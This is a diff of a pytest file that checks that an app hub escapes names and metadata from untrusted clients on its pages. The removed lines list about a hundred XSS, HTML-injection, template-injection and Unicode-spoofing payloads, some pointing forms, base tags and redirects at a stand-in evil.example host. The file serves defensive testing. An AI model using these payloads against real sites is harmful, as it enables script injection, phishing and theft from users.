@@ -1,51 +1,15 @@
 """Pages: nothing of a stranger's is more than text, no script, no frame, readable by everybody."""
 
 import html.parser
-import json
 import re
 import urllib.parse
 
 import pytest
 
+from support.oauth import register
+from support.payloads import PAYLOADS
 from support.people import App, Person
 
-PAYLOADS = [
-    '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>",
-    '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>',
-    '<script/src=//evil.example/x.js>', '<script\n>alert(1)</script\n>', '<<script>alert(1)//<</script>',
-    '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '"><img src=x onerror=alert(1)>',
-    "'><img src=x onerror=alert(1)>", '<img src="javascript:alert(1)">', '<image src=x onerror=alert(1)>',
-    '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
-    '<svg><animate onbegin=alert(1) attributeName=x>', '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
-    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<body onload=alert(1)>',
-    '<iframe src="javascript:alert(1)">', '<iframe srcdoc="<script>alert(1)</script>">',
-    '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">', '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<link rel=stylesheet href=//evil.example>',
-    '<style>@import "//evil.example";</style>', '<style>*{background:url(//evil.example)}</style>',
-    '<form action="https://evil.example"><button>', '</form><form action="https://evil.example">',
-    '<button formaction="https://evil.example">x', '<input autofocus onfocus=alert(1)>',
-    '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
-    '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<video><source onerror=alert(1)>',
-    '<audio src onerror=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>',
-    '<a href="java&#10;script:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>', '<div style="background:url(javascript:alert(1))">',
-    '<div style="width:expression(alert(1))">', '" onmouseover="alert(1)', "' onmouseover='alert(1)",
-    '" autofocus onfocus="alert(1)', '` onmouseover=`alert(1)', 'x" style="animation-name:x" onanimationstart="alert(1)',
-    '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&#x3c;script&#x3e;alert(1)',
-    '&quot;&gt;&lt;script&gt;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003ealert(1)', '\\x3cscript\\x3e',
-    '<!--<script>alert(1)</script>-->', '--><script>alert(1)</script>', '<![CDATA[<script>alert(1)</script>]]>',
-    '<?xml version="1.0"?><script>alert(1)</script>', '<%script%>alert(1)', '{{constructor.constructor("alert(1)")()}}',
-    '${alert(1)}', '#{alert(1)}', '{1}{2}{3}', '{{7*7}}', '<template><script>alert(1)</script></template>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<xss onclick=alert(1)>x', '<x onclick=alert(1)>',
-    'javascript:alert(1)', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
-    '\u003cscript\u003ealert(1)\u003c/script\u003e', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
-    '<\u200bscript>alert(1)</script>', '\u202ecod.live\u202c', '\u2066\u2067\u2068rtl\u2069', 'a\u200eb\u200fc',
-    'pay\u00adpal', '\ufeffpaypal', 'p\u200ba\u200by\u200bp\u200ba\u200bl', '\u2800\u2800\u2800', '\u3164',
-    'e' + '\u0301' * 60, '\U000e0041\U000e0042', '\u0000'.replace('\0', ''), 'x' * 10000, '\u670d' * 3000,
-    'Sign in\n\nYour password has expired', 'a\tb\rc', 'Administrator <admin@mcp.example.com>',
-    'Notes App\u2028<script>alert(1)</script>', 'Notes App (verified)', '\u2713 Verified', '<b>bold</b>',
-    '<plaintext>', '<xmp>', '<listing>', '<frameset><frame src=//evil.example>', '<dialog open>x',
-]
 UNSEEN = re.compile('[\u00ad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164'
                     '\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\U000e0000-\U0010ffff]')
 OUR_TAGS = {'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'h1', 'h2', 'p', 'dl', 'dt', 'dd', 'small', 'bdi',
@@ -92,13 +56,6 @@ def check_page(page, payload=None):
     assert ('meta', 'name', 'viewport') in e.values
     assert page.headers['X-Request-Id'] in page.text  # what to tell the administrator
     return e
-
-
-def register(hub, **metadata):
-    body = json.dumps({'redirect_uris': ['https://app.example/cb'], 'token_endpoint_auth_method': 'none', **metadata})
-    reply = hub.request('POST', '/register', body=body, headers={'Content-Type': 'application/json'})
-    assert reply.status in (201, 400, 413), reply.body
-    return reply.json().get('client_id')
 
 
 def test_names_of_strangers_are_text(login_hub):  # row 98
